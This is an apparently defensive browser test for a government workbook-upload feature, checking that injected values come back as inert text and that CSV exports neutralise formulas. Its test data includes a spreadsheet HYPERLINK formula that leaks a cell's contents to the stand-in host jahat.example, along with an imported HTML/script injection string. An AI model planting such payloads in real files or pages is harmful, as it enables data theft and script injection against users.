// SPDX-License-Identifier: Apache-2.0
// Values by workbook, without JavaScript: a Lurah at a desk hands in one that is wrong, mends the copy
// that marks it, and stores it; the Kasubbag does so for all units at a phone. What people type into
// cells and into the names of files is text, here and in whatever they are given back.
import assert from "node:assert/strict";
import { Book } from "./books.mjs";
import { act, Person } from "./http.mjs";
import { axe, base, button, enter, fitsAPhone, isHarmless, kEvil, launch, shot } from "./people.mjs";

const kUnit = "lurah_jogoyudan", kOther = "kasi_pemerintahan";
const kFormula = '=HYPERLINK("https://jahat.example/?"&A1,"klik")';
const kReason = `Bukti menyusul ${kEvil}`;
const browser = await launch();
const off = { javaScriptEnabled: false };

// A case whose units are asked.
const clerk = await Person.enter("staf_penerima_surat");
const path = (await act(clerk, "/surat/baru", "surat", { letter_number: "050/1/2026" })).split("?")[0];
await act(clerk, path, "tindakan-teruskan-sekretaris");
await act(await Person.enter("sekretaris"), path, "tindakan-teruskan-camat");
const camat = await Person.enter("camat");
await act(camat, path, "tindakan-disposisi", { units: kUnit });
const boss = await Person.enter("kasubbag_keuangan");
await act(boss, path, "tindakan-tugaskan-unit", { unit: kOther, requests: "Data kinerja triwulan" });

const upload = async (page, file) => {
  await page.setInputFiles('input[name="berkas"]', file);
  await button(page, "Unggah dan periksa").click();
  await page.waitForSelector("#pratinjau, #galat");
  await isHarmless(page);
};
// At a desk and at a phone. Axe needs scripts: the same person looks at the same address with them.
const eyes = { [kUnit]: await enter(browser, kUnit), kasubbag_keuangan: await enter(browser, "kasubbag_keuangan") };
const look = async ({ key, page: at }, name, { answer = false } = {}) => {
  for (const [size, prefix] of [[{ width: 1280, height: 900 }, ""], [{ width: 360, height: 740 }, "telepon-"]]) {
    await at.setViewportSize(size);
    await shot(at, prefix + name);
  }
  await fitsAPhone(at, name);
  if (answer) return; // of a form: it has no address of its own
  const eye = eyes[key].page;
  await eye.goto(at.url());
  await isHarmless(eye);
  await axe(eye, name);
};

// From the unit's page to its workbook.
const lurah = await enter(browser, kUnit, { ...off, viewport: { width: 1280, height: 900 } });
const { page } = lurah;
await page.goto(`${base}${path}/unit/${kUnit}`);
await look(lurah, "lembar-unit");
await page.locator('a[href$="/buku-kerja"]').first().click();
await page.waitForSelector("h1:has-text('Buku kerja')");
await look(lurah, "buku-kerja");
const book = await Book.from(page, page.locator("a:has-text('Excel kosong')"));
const sheet = book.sheetOf(kUnit);
assert.deepEqual(book.sheets[sheet].formulas, []);

// Nothing was chosen, and what is no workbook: said, and nothing else happens.
await page.locator('input[name="berkas"]').evaluate((field) => field.removeAttribute("required"));
await button(page, "Unggah dan periksa").click();
await page.waitForSelector("#galat:has-text('Berkas')");
await upload(page, { name: "surat.xlsx", mimeType: "application/octet-stream", buffer: Buffer.from("PK\x03\x04 bukan buku kerja") });
assert.match(await page.locator("#pratinjau").textContent(), /Belum ada yang dapat disimpan/);
await look(lurah, "buku-kerja-bukan");

// Wrong: a letter O for a nought, markup where a number is asked, and a number out of its bounds.
book.fill(sheet);
const minutes = book.placeOf(sheet, "lama_layanan", "nilai");
const money = book.placeOf(sheet, "swadaya", "uang");
const cause = book.placeOf(sheet, "layanan_tepat_waktu", "", "Sebab");
const followUp = book.placeOf(sheet, "layanan_tepat_waktu", "", "Tindak lanjut");
book.type([[sheet, minutes, "12,O"], [sheet, money, kEvil], [sheet, cause, kEvil], [sheet, followUp, kFormula]]);
await upload(page, book.upload(`${kEvil.replaceAll("/", "")}.xlsx`));
const told = page.locator("#pratinjau");
await page.waitForSelector(`#pratinjau tr:has(th:text-is("${sheet} ${minutes}")):has-text("12,O"):has-text("bukan angka")`);
await page.waitForSelector(`#pratinjau tr:has(th:text-is("${sheet} ${money}")):has-text("onerror")`);
assert.match(await told.textContent(), /2 salah/);
assert.equal(await page.locator("#simpan").count(), 0, "what is wrong cannot be stored");
await look(lurah, "buku-kerja-salah");

// The copy marks both cells, with what to do; what looked like a formula is a text in it.
const marked = await Book.from(page, page.locator("a:has-text('Unduh buku kerja bertanda')"));
for (const place of [minutes, money]) assert.match(marked.sheets[sheet].comments[place], /bukan angka/);
assert.equal(marked.sheets[sheet].cells[money], kEvil);
assert.equal(marked.sheets[sheet].cells[followUp], kFormula);
for (const name of Object.keys(marked.sheets)) assert.deepEqual(marked.sheets[name].formulas, [], name);
marked.type([[sheet, minutes, "481"], [sheet, money, "12.5"]]);
await upload(page, marked.upload("nilai.xlsx"));
await page.waitForSelector(`#pratinjau tr:has(th:text-is("${sheet} ${minutes}")):has-text("di atas batas")`);
assert.equal(await page.locator("#simpan").count(), 0, "nor what is out of its bounds");
marked.type([[sheet, minutes, "12.5"]]);
await upload(page, marked.upload("nilai.xlsx"));
await page.waitForSelector("#pratinjau:has-text('0 salah')");
await page.waitForSelector("#pratinjau tr:has-text('Rata-rata'):has-text('12,5')");
await look(lurah, "buku-kerja-pratinjau");

// Nothing is stored before the second press, which needs a reason while proofs lack.
const unitPage = `${base}${path}/unit/${kUnit}`;
const preview = page.url();
await page.goto(unitPage);
assert.match(await page.locator("#terisi").textContent(), /Terisi 0 dari/);
await page.goto(preview);
await page.fill('#simpan [name="reason"]', kReason);
await page.locator("#simpan button").click();
await page.waitForSelector("#hasil");
assert.match(await page.locator("#hasil").textContent(), /(\d+) dari \1 nilai tersimpan \(dibaca ulang\)/);
await isHarmless(page);
await look(lurah, "buku-kerja-hasil", { answer: true });
await page.goto(unitPage);
await isHarmless(page);
assert.ok((await page.locator("#terisi").textContent()).includes(kReason.trim()), "the reason is text");
assert.equal(await page.inputValue('[name="nilai.lama_layanan.nilai"]'), "12,5");
assert.equal(await page.inputValue('[name="sebab.layanan_tepat_waktu"]'), kEvil);
assert.equal(await page.inputValue('[name="tindak_lanjut.layanan_tepat_waktu"]'), kFormula);
await look(lurah, "lembar-unit-dari-buku");
await page.goto(`${unitPage}/indikator/layanan_tepat_waktu`);
await isHarmless(page);
await look(lurah, "sel-dari-buku");

// In a CSV, which spreadsheets compute as they open it, nothing begins as a formula.
const csv = await (await lurah.context.request.get(`${unitPage}/buku-kerja/templat?bentuk=csv&isi=1`)).text();
assert.ok(csv.includes("'=HYPERLINK"), "a formula is guarded");
for (const field of csv.split(/[;\r\n]+/)) assert.doesNotMatch(field, /^"?[=+@]/);

// The Kasubbag, for all units at once, at a phone: one sheet is filled in, the other is not.
const kasubbag = await enter(browser, "kasubbag_keuangan", { ...off, viewport: { width: 360, height: 740 } });
const phone = kasubbag.page;
await phone.goto(base + path);
await phone.locator("a:has-text('Buku kerja semua unit')").click();
await fitsAPhone(phone, "workbook of all units");
const all = await Book.from(phone, phone.locator("a:has-text('Excel kosong')"));
const other = all.sheetOf(kOther);
all.fill(other, "3");
await upload(phone, all.upload("semua.xlsx"));
await phone.waitForSelector("#simpan:has-text('Yang disimpan: 1 unit')");
await look(kasubbag, "buku-kerja-semua");
await phone.fill('#simpan [name="reason"]', "Bukti menyusul dari unit");
const again = phone.url();
await phone.locator("#simpan button").click();
await phone.waitForSelector("#hasil:has-text('tersimpan')");
// Pressed on the page of before: it was read against what stood then, so it is refused.
await phone.goto(again);
await phone.fill('#simpan [name="reason"]', "Bukti menyusul dari unit");
await phone.locator("#simpan button").click();
await phone.waitForSelector("#galat");
await look(kasubbag, "buku-kerja-didahului", { answer: true });

// What a Lurah sees of others' workbooks, and what is left once the draft is closed.
assert.equal((await page.goto(`${base}${path}/unit/${kOther}/buku-kerja`)).status(), 403);
await isHarmless(page);
await act(boss, path, "tindakan-tutup-draf", { incomplete_reason: "Bukti menyusul" });
await page.goto(`${unitPage}/buku-kerja`);
assert.equal(await page.locator('input[name="berkas"]').count(), 0, "nothing is handed in behind a closed draft");

for (const { key, foreign, faults } of [lurah, kasubbag, ...Object.values(eyes)]) {
  assert.deepEqual(foreign, [], `${key}: another origin`);
  assert.deepEqual(faults, [], `${key}: scripts`);
}
await browser.close();
console.log("workbook: all good");
